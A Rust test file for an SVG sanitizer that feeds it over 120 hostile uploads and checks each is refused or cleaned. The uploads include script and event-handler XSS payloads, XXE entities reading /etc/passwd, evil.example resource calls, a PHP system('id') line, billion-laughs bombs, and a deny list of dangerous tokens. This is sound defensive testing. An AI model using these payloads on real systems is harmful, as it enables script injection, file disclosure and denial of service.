//! SVG that means harm: each trick is refused, or nothing is left of it.

use std::fmt::Write;

use bytes::Bytes;
use understudy_domain::ports::{MediaError, Pictures};
use usvg::roxmltree::Document;

use crate::confined;

/// What must not be in an SVG that is served; it is compared in lower case.
const DANGEROUS: &[&str] = &[
    "script",
    "javascript",
    "onload",
    "onclick",
    "onerror",
    "onbegin",
    "onmouse",
    "onfocus",
    "href",
    "foreignobject",
    "<image",
    "<use",
    "<a ",
    "<a>",
    "<style",
    "@import",
    "http",
    "file:",
    "data:",
    "//",
    "doctype",
    "entity",
    "<set",
    "<animate",
    "<handler",
    "<iframe",
    "<?",
    "<!",
    "cdata",
    "expression",
    "base64",
    "secret",
    "alert",
    "root:",
    "passwd",
    "<text",
    "feimage",
    "xml:",
    "xlink",
    "\u{0}",
];

/// The elements that may be there.
const SHAPES: &[&str] = &[
    "svg",
    "g",
    "defs",
    "path",
    "linearGradient",
    "radialGradient",
    "stop",
    "clipPath",
    "mask",
    "pattern",
    "filter",
    "feGaussianBlur",
    "feFlood",
    "feTile",
    "feMerge",
    "feMergeNode",
    "feTurbulence",
    "feOffset",
    "feBlend",
    "feComposite",
    "feColorMatrix",
];

/// What may come of a trick.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Outcome {
    /// The trick is gone and the shape beside it is left.
    Cleaned,
    /// It is refused.
    Refused,
    /// Either.
    Harmless,
}
use Outcome::{Cleaned, Harmless, Refused};

const SHAPE: &str = "<path d='M0 0h50v50z' fill='red'/>";

/// Wraps what is beside a shape.
fn beside(inner: &str) -> String {
    format!(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' \
         width='100' height='100'>{inner}{SHAPE}</svg>"
    )
}

/// Tricks beside a shape, within a well-formed SVG.
const INNER: &[(&str, &str, Outcome)] = &[
    ("a script", "<script>alert(1)</script>", Cleaned),
    ("a script from elsewhere", "<script href='https://evil.example/x.js'/>", Cleaned),
    ("a script by xlink", "<script xlink:href='data:text/javascript,alert(1)'/>", Cleaned),
    ("a script in capitals", "<SCRIPT>alert(1)</SCRIPT>", Cleaned),
    ("a script in CDATA", "<script><![CDATA[alert(1)]]></script>", Cleaned),
    (
        "a script of another type",
        "<script type='application/ecmascript'>alert(1)</script>",
        Cleaned,
    ),
    (
        "a script of HTML",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        Cleaned,
    ),
    ("a script in defs", "<defs><script>alert(1)</script></defs>", Cleaned),
    ("onload on a shape", "<rect onload='alert(1)' width='9' height='9'/>", Cleaned),
    ("onclick in odd case", "<rect OnClIcK='alert(1)' width='9' height='9'/>", Cleaned),
    ("onerror of an image", "<image href='x' onerror='alert(1)' width='9' height='9'/>", Cleaned),
    (
        "onbegin of an animation",
        "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
        Cleaned,
    ),
    (
        "a handler with a namespace",
        "<rect xmlns:e='http://www.w3.org/2001/xml-events' e:onclick='alert(1)' width='9' height='9'/>",
        Cleaned,
    ),
    (
        "onfocus with tabindex",
        "<g tabindex='0' onfocus='alert(1)' autofocus='1'><rect width='9' height='9'/></g>",
        Cleaned,
    ),
    (
        "onmouseover on a group",
        "<g onmouseover='alert(1)'><rect width='9' height='9'/></g>",
        Cleaned,
    ),
    (
        "a handler element",
        "<handler type='text/javascript' ev:event='load' xmlns:ev='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
        Cleaned,
    ),
    (
        "a listener",
        "<listener event='load' handler='#x' xmlns='http://www.w3.org/2001/xml-events'/>",
        Cleaned,
    ),
    (
        "foreign objects",
        "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></body></foreignObject>",
        Cleaned,
    ),
    (
        "a frame",
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject>",
        Cleaned,
    ),
    (
        "a frame outside",
        "<iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/>",
        Cleaned,
    ),
    (
        "an image of HTML with onerror",
        "<img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>",
        Cleaned,
    ),
    ("an image from a file", "<image href='file:///etc/passwd' width='9' height='9'/>", Cleaned),
    ("an image from a path", "<image href='/etc/passwd' width='9' height='9'/>", Cleaned),
    (
        "an image from a relative path",
        "<image href='../../secret.png' width='9' height='9'/>",
        Cleaned,
    ),
    (
        "an image from elsewhere",
        "<image xlink:href='http://evil.example/secret.png' width='9' height='9'/>",
        Cleaned,
    ),
    (
        "an image without a scheme",
        "<image href='//evil.example/secret.png' width='9' height='9'/>",
        Cleaned,
    ),
    (
        "an SVG in an image",
        "<image width='9' height='9' href='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4='/>",
        Cleaned,
    ),
    (
        "a PNG in an image",
        "<image width='9' height='9' href='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='/>",
        Cleaned,
    ),
    (
        "a page in an image",
        "<image width='9' height='9' href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'/>",
        Cleaned,
    ),
    ("a script in an image", "<image width='9' height='9' href='javascript:alert(1)'/>", Cleaned),
    ("use of a file", "<use href='file:///etc/passwd#x'/>", Cleaned),
    ("use of elsewhere", "<use xlink:href='https://evil.example/secret.svg#x'/>", Cleaned),
    ("use of data", "<use href='data:image/svg+xml;base64,PHN2Zy8+#x'/>", Cleaned),
    ("use of a script", "<use href='javascript:alert(1)'/>", Cleaned),
    ("use of itself", "<g id='a'><use href='#a'/></g>", Refused),
    ("use in a circle", "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>", Refused),
    ("use of a script here", "<script id='s'>alert(1)</script><use href='#s'/>", Cleaned),
    (
        "a link to a script",
        "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>",
        Cleaned,
    ),
    (
        "a link to a script by xlink",
        "<a xlink:href='javascript:alert(1)'><rect width='9' height='9'/></a>",
        Cleaned,
    ),
    (
        "a link to a script with a tab",
        "<a href='java&#9;script:alert(1)'><rect width='9' height='9'/></a>",
        Cleaned,
    ),
    (
        "a link to a script by entities",
        "<a href='&#106;avascript:alert(1)'><rect width='9' height='9'/></a>",
        Cleaned,
    ),
    (
        "a link elsewhere",
        "<a href='https://evil.example' target='_top'><rect width='9' height='9'/></a>",
        Cleaned,
    ),
    ("an import", "<style>@import url('https://evil.example/secret.css');</style>", Cleaned),
    ("an import without url", "<style>@import 'https://evil.example/secret.css';</style>", Cleaned),
    (
        "a url in a style sheet",
        "<style>path { fill: url(https://evil.example/secret.svg#x) }</style>",
        Harmless,
    ),
    (
        "a font from elsewhere",
        "<style>@font-face { font-family: x; src: url(https://evil.example/secret) }</style>",
        Cleaned,
    ),
    (
        "a url in a style",
        "<rect style='fill:url(file:///etc/passwd#x)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a script in a style",
        "<rect style='background:url(javascript:alert(1))' width='9' height='9'/>",
        Cleaned,
    ),
    (
        "an expression in a style",
        "<rect style='width: expression(alert(1))' width='9' height='9'/>",
        Cleaned,
    ),
    (
        "a style sheet in CDATA",
        "<style><![CDATA[@import url(//evil.example/secret);]]></style>",
        Cleaned,
    ),
    (
        "a style sheet that ends early",
        "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
        Cleaned,
    ),
    (
        "a behaviour",
        "<style>path { behavior: url(secret.htc); -moz-binding: url(secret.xml#a) }</style>",
        Cleaned,
    ),
    (
        "setting a link",
        "<a id='l' href='#'><set attributeName='href' to='javascript:alert(1)'/><rect width='9' height='9'/></a>",
        Cleaned,
    ),
    (
        "animating a link",
        "<a><animate attributeName='xlink:href' values='javascript:alert(1)'/><rect width='9' height='9'/></a>",
        Cleaned,
    ),
    (
        "animating a handler",
        "<rect width='9' height='9'><set attributeName='onclick' to='alert(1)'/></rect>",
        Cleaned,
    ),
    (
        "moving along a path elsewhere",
        "<rect width='9' height='9'><animateMotion><mpath href='https://evil.example/secret#p'/></animateMotion></rect>",
        Cleaned,
    ),
    (
        "a cursor from elsewhere",
        "<rect cursor='url(https://evil.example/secret.cur)' width='9' height='9'/>",
        Cleaned,
    ),
    (
        "a marker from elsewhere",
        "<path d='M0 0h9' marker-end='url(https://evil.example/secret#m)'/>",
        Harmless,
    ),
    (
        "a filter from elsewhere",
        "<rect filter='url(https://evil.example/secret#f)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a mask from a file",
        "<rect mask='url(file:///etc/passwd#m)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a clip from elsewhere",
        "<rect clip-path='url(//evil.example/secret#c)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a filter with an image",
        "<filter id='f'><feImage href='file:///etc/passwd'/></filter><rect filter='url(#f)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a filter with a part of itself",
        "<filter id='f'><feImage href='#r'/></filter><rect id='r' width='9' height='9'/><rect filter='url(#f)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a gradient from elsewhere",
        "<linearGradient id='g' href='https://evil.example/secret#g'/><rect fill='url(#g)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a harmful identifier",
        "<linearGradient id='javascript:alert(1)'><stop stop-color='red'/><stop offset='1'/></linearGradient><rect fill='url(#javascript:alert(1))' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a harmful result",
        "<filter id='f'><feFlood result='javascript:alert(1)'/></filter><rect filter='url(#f)' width='9' height='9'/>",
        Harmless,
    ),
    (
        "a harmful class",
        "<rect class='\"&gt;&lt;script&gt;alert(1)' width='9' height='9'/>",
        Cleaned,
    ),
    ("markup in a title", "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>", Cleaned),
    (
        "markup in metadata",
        "<metadata><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></metadata>",
        Cleaned,
    ),
    ("a comment that a browser ends early", "<!--><script>alert(1)</script>-->", Harmless),
    (
        "a switch",
        "<switch><foreignObject requiredExtensions='x'><script>alert(1)</script></foreignObject><g><rect width='9' height='9'/></g></switch>",
        Cleaned,
    ),
    (
        "a video",
        "<video xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/secret' autoplay='1'/>",
        Cleaned,
    ),
    (
        "an embedded object",
        "<embed xmlns='http://www.w3.org/1999/xhtml' src='data:text/html,x'/>",
        Cleaned,
    ),
    ("a base", "<g xml:base='https://evil.example/secret/'><use href='x#y'/></g>", Cleaned),
    (
        "a text path elsewhere",
        "<text><textPath href='https://evil.example/secret#p'>x</textPath></text>",
        Cleaned,
    ),
    ("a glyph with a script", "<font><glyph onload='alert(1)'/></font>", Cleaned),
    ("a discard", "<discard begin='0s' onbegin='alert(1)'/>", Cleaned),
    (
        "a nested SVG with a handler",
        "<svg onload='alert(1)'><script>alert(1)</script></svg>",
        Cleaned,
    ),
    (
        "a symbol with a script",
        "<symbol id='s'><script>alert(1)</script><rect width='9' height='9'/></symbol><use href='#s'/>",
        Cleaned,
    ),
    (
        "a pattern within itself",
        "<pattern id='p' width='9' height='9'><rect width='9' height='9' fill='url(#p)'/></pattern><rect width='9' height='9' fill='url(#p)'/>",
        Refused,
    ),
    (
        "a mask within itself",
        "<mask id='m'><rect mask='url(#m)' width='9' height='9'/></mask><rect mask='url(#m)' width='9' height='9'/>",
        Refused,
    ),
];

/// Whole files.
fn whole() -> Vec<(&'static str, Vec<u8>, Outcome)> {
    let body = "xmlns='http://www.w3.org/2000/svg' width='100' height='100'";
    let mut files: Vec<(&str, Vec<u8>, Outcome)> = Vec::new();
    let mut add = |name, text: String, outcome| files.push((name, text.into_bytes(), outcome));
    add("onload on the root", format!("<svg {body} onload='alert(1)'>{SHAPE}</svg>"), Cleaned);
    add(
        "a style sheet by instruction",
        format!(
            "<?xml-stylesheet href='https://evil.example/secret.css'?><svg {body}>{SHAPE}</svg>"
        ),
        Cleaned,
    );
    add(
        "a transformation by instruction",
        format!("<?xml-stylesheet type='text/xsl' href='#x'?><svg {body}>{SHAPE}</svg>"),
        Cleaned,
    );
    add("an instruction inside", beside("<?php system('id') ?>"), Cleaned);
    add("a prefix for everything", "<s:svg xmlns:s='http://www.w3.org/2000/svg' width='9' height='9'><s:script>alert(1)</s:script><s:path d='M0 0h9v9z'/></s:svg>".to_owned(), Cleaned);
    add(
        "an external entity",
        format!(
            "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg {body}><text>&x;</text></svg>"
        ),
        Refused,
    );
    add(
        "an entity with a script",
        format!("<!DOCTYPE svg [<!ENTITY x '<script>alert(1)</script>'>]><svg {body}>&x;</svg>"),
        Refused,
    );
    add(
        "a document type from elsewhere",
        format!(
            "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://evil.example/secret.dtd'><svg {body}>{SHAPE}</svg>"
        ),
        Refused,
    );
    add(
        "a document type in lower case",
        format!("<!doctype svg><svg {body}>{SHAPE}</svg>"),
        Refused,
    );
    add(
        "a parameter entity",
        format!(
            "<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://evil.example/secret'>%x;]><svg {body}/>"
        ),
        Refused,
    );
    add(
        "an attribute list",
        format!(
            "<!DOCTYPE svg [<!ATTLIST path onload CDATA 'alert(1)'>]><svg {body}>{SHAPE}</svg>"
        ),
        Refused,
    );
    add("laughs by the billion", laughs(), Refused);
    add("laughs by use", uses(10, 10), Refused);
    add("laughs by use, with few", uses(30, 2), Refused);
    add("laughs by patterns", patterns(12, 4), Refused);
    add("laughs by masks", masks(24), Refused);
    add("laughs by bytes", bytes(), Refused);
    add("filters in filters", filters(20), Refused);
    add("an entity without a declaration", beside("<text>&secret;</text>"), Refused);
    add("sizes of 1e38", "<svg xmlns='http://www.w3.org/2000/svg' width='1e38' height='1e38'><path d='M0 0h9v9z'/></svg>".to_owned(), Refused);
    add("sizes of 1e-38", "<svg xmlns='http://www.w3.org/2000/svg' width='1e-38' height='1'><path d='M0 0h9v9z'/></svg>".to_owned(), Refused);
    add(
        "sizes of nothing",
        "<svg xmlns='http://www.w3.org/2000/svg' width='0' height='0'><path d='M0 0h9v9z'/></svg>"
            .to_owned(),
        Refused,
    );
    add("sizes below nothing", "<svg xmlns='http://www.w3.org/2000/svg' width='-5' height='NaN'><path d='M0 0h9v9z'/></svg>".to_owned(), Harmless);
    add(
        "a wide view",
        "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1e30 1'><path d='M0 0h9v9z'/></svg>"
            .to_owned(),
        Refused,
    );
    add("a view of NaN", "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' viewBox='NaN NaN Infinity 1'><path d='M0 0h9v9z'/></svg>".to_owned(), Harmless);
    add(
        "coordinates of 1e38",
        beside("<path d='M1e38 1e38L-1e38 -1e38 3e38 0z' stroke='red' stroke-width='1e38'/>"),
        Harmless,
    );
    add(
        "a transform of 1e38",
        beside("<g transform='scale(1e38) rotate(1e38)'><rect width='1e38' height='1e38'/></g>"),
        Harmless,
    );
    add(
        "dashes without end",
        beside("<path d='M0 0H100000' stroke='red' stroke-dasharray='0.0001'/>"),
        Harmless,
    );
    add(
        "a blur without end",
        beside(
            "<filter id='f'><feGaussianBlur stdDeviation='1e30'/></filter><rect filter='url(#f)' width='9' height='9'/>",
        ),
        Harmless,
    );
    add(
        "a filter without end",
        beside(
            "<filter id='f' x='-1e9' y='-1e9' width='1e12' height='1e12'><feTurbulence numOctaves='1000000'/></filter><rect filter='url(#f)' width='9' height='9'/>",
        ),
        Harmless,
    );
    add(
        "depth",
        format!("<svg {body}>{}{SHAPE}{}</svg>", "<g>".repeat(5_000), "</g>".repeat(5_000)),
        Refused,
    );
    add("depth without an end", format!("<svg {body}>{}", "<g>".repeat(500_000)), Refused);
    add(
        "many elements",
        format!("<svg {body}>{}</svg>", "<path d='M0 0h9'/>".repeat(20_000)),
        Refused,
    );
    add("many attributes", many_attributes(4_900_000), Refused);
    add(
        "many attributes on each",
        format!(
            "<svg {body}>{}</svg>",
            format!("<g {}/>", (0..200).map(|n| format!("a{n}='' ")).collect::<String>())
                .repeat(100)
        ),
        Refused,
    );
    add(
        "many namespaces",
        format!(
            "<svg {body}>{}</svg>",
            (0..500).map(|n| format!("<g xmlns:a{n}='urn:{n}'/>")).collect::<String>()
        ),
        Refused,
    );
    add(
        "an attribute that does not end",
        format!("<svg {body} a='{}", "x".repeat(4_000_000)),
        Refused,
    );
    add(
        "a comment that does not end",
        format!("<svg {body}><!-- {}", "-".repeat(4_000_000)),
        Refused,
    );
    add("many comments", format!("<svg {body}>{}</svg>", "<!---->".repeat(600_000)), Refused);
    add(
        "a large style sheet",
        beside(&format!("<style>{}</style>", "path{fill:red}".repeat(30_000))),
        Refused,
    );
    add(
        "an attribute twice",
        format!("<svg {body}><path d='M0 0' d='M1 1' onload='a' onload='b'/></svg>"),
        Refused,
    );
    add("an end that is missing", format!("<svg {body}><g>{SHAPE}</svg>"), Refused);
    add(
        "something behind the end",
        format!("<svg {body}>{SHAPE}</svg><script>alert(1)</script>"),
        Refused,
    );
    add(
        "UTF-7",
        format!(
            "<?xml version='1.0' encoding='UTF-7'?><svg {body}>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>"
        ),
        Refused,
    );
    add(
        "a declared Latin-1",
        format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><svg {body}>{SHAPE}</svg>"),
        Refused,
    );
    add("NUL", format!("<svg {body}><scr\u{0}ipt>alert(1)</scr\u{0}ipt></svg>"), Refused);
    add(
        "another root",
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>".to_owned(),
        Refused,
    );
    add(
        "a root of no namespace",
        format!("<svg width='9' height='9'><script>alert(1)</script>{SHAPE}</svg>"),
        Harmless,
    );
    add(
        "a root of another namespace",
        "<svg xmlns='urn:other' width='9' height='9'/>".to_owned(),
        Refused,
    );
    let plain = beside("<script>alert(1)</script>");
    let utf16 = plain.encode_utf16();
    files.push((
        "UTF-16 with a mark",
        utf16.clone().fold(vec![0xff, 0xfe], |mut all, unit| {
            all.extend(unit.to_le_bytes());
            all
        }),
        Refused,
    ));
    files.push(("UTF-16 without a mark", utf16.flat_map(u16::to_be_bytes).collect(), Refused));
    files.push(("compressed", [&[0x1f, 0x8b, 8, 0][..], plain.as_bytes()].concat(), Refused));
    files.push(("bytes that are no text", [plain.as_bytes(), &[0xc0, 0xbc]].concat(), Refused));
    files
}

fn laughs() -> String {
    let mut dtd = String::from("<!ENTITY a0 'ha'>");
    for n in 1..10 {
        let _ = write!(dtd, "<!ENTITY a{n} '{}'>", format!("&a{};", n - 1).repeat(10));
    }
    format!("<!DOCTYPE svg [{dtd}]><svg xmlns='http://www.w3.org/2000/svg'><text>&a9;</text></svg>")
}

/// `levels` groups, each of which uses the one before `times`.
fn uses(levels: u32, times: usize) -> String {
    let mut groups = String::from("<g id='u0'><rect width='1' height='1'/></g>");
    for n in 1..=levels {
        let uses = format!("<use href='#u{}'/>", n - 1).repeat(times);
        let _ = write!(groups, "<g id='u{n}'>{uses}</g>");
    }
    beside(&groups)
}

fn patterns(levels: u32, times: usize) -> String {
    let mut patterns = String::from(
        "<pattern id='p0' width='1' height='1'><rect width='1' height='1'/></pattern>",
    );
    for n in 1..=levels {
        let fills = format!("<rect width='9' height='9' fill='url(#p{})'/>", n - 1).repeat(times);
        let _ = write!(patterns, "<pattern id='p{n}' width='9' height='9'>{fills}</pattern>");
    }
    beside(&format!("{patterns}<rect width='9' height='9' fill='url(#p{levels})'/>"))
}

fn masks(levels: u32) -> String {
    let mut masks = String::from("<mask id='m0'><rect width='9' height='9'/></mask>");
    for n in 1..=levels {
        let parts = format!("<rect width='9' height='9' mask='url(#m{})'/>", n - 1).repeat(2);
        let _ = write!(masks, "<mask id='m{n}'>{parts}</mask>");
    }
    beside(&format!("{masks}<rect width='9' height='9' mask='url(#m{levels})'/>"))
}

fn filters(levels: usize) -> String {
    let filter = "<filter id='f'><feTurbulence baseFrequency='.1' numOctaves='9'/></filter>";
    let open = "<g filter='url(#f)'>".repeat(levels + 32);
    beside(&format!("{filter}{open}<rect width='100' height='100'/>{}", "</g>".repeat(levels + 32)))
}

/// One long path that is used often.
fn bytes() -> String {
    let path = format!("<path id='p' d='M0 0{}'/>", "h1".repeat(400_000));
    beside(&format!("{path}{}", "<use href='#p'/>".repeat(1_000)))
}

fn many_attributes(size: usize) -> String {
    let mut tag = String::from("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' ");
    let mut n = 0;
    while tag.len() < size {
        let _ = write!(tag, "a{n}='' ");
        n += 1;
    }
    tag + "/>"
}

#[tokio::test]
async fn nothing_is_left_of_any_trick() {
    let media = confined();
    let inner =
        INNER.iter().map(|(name, inner, outcome)| (*name, beside(inner).into_bytes(), *outcome));
    let cases: Vec<_> = inner.chain(whole()).collect();
    assert!(cases.len() > 120);
    let mut failures = Vec::new();
    for (name, upload, expected) in cases {
        let icon = media.make_icon(Bytes::from(upload)).await;
        let outcome = match &icon {
            Ok(_) => Cleaned,
            Err(MediaError::Unavailable(_)) => panic!("{name}: {icon:?}"),
            Err(_) => Refused,
        };
        if expected != Harmless && outcome != expected {
            failures.push(format!("{name}: {expected:?} expected, but {outcome:?}: {icon:?}"));
        }
        if let Ok(icon) = icon {
            let svg = String::from_utf8(icon.svg.unwrap().to_vec()).unwrap();
            failures.extend(leftovers(&svg).map(|what| format!("{name}: {what} in {svg}")));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// What should not be there.
fn leftovers(svg: &str) -> Option<String> {
    const SVG: &str = "http://www.w3.org/2000/svg";
    let without = svg.replacen(&format!("xmlns=\"{SVG}\""), "", 1).to_lowercase();
    if let Some(token) = DANGEROUS.iter().find(|token| without.contains(**token)) {
        return Some((*token).to_owned());
    }
    let document = Document::parse(svg).unwrap();
    for node in document.root_element().descendants() {
        let tag = node.tag_name();
        if !node.is_element() || tag.namespace() != Some(SVG) || !SHAPES.contains(&tag.name()) {
            return Some(format!("{node:?}"));
        }
        let odd = node.attributes().find(|attribute| {
            let value = attribute.value();
            attribute.namespace().is_some()
                || attribute.name().starts_with("on")
                || value.matches("url(").count() != value.matches("url(#n").count()
                || (attribute.name() != "style" && value.contains(':'))
        });
        if let Some(attribute) = odd {
            return Some(format!("{attribute:?}"));
        }
    }
    None
}

#[tokio::test]
async fn the_tricks_end_without_a_worker_too() {
    let media = understudy_media::Media::new(understudy_media::MediaOptions::default());
    for upload in
        [uses(10, 10), patterns(12, 4), masks(24), laughs(), bytes(), many_attributes(4_900_000)]
    {
        let icon = media.make_icon(Bytes::from(upload)).await;
        assert!(matches!(icon, Err(MediaError::TooLarge(_) | MediaError::Invalid(_))), "{icon:?}");
    }
}
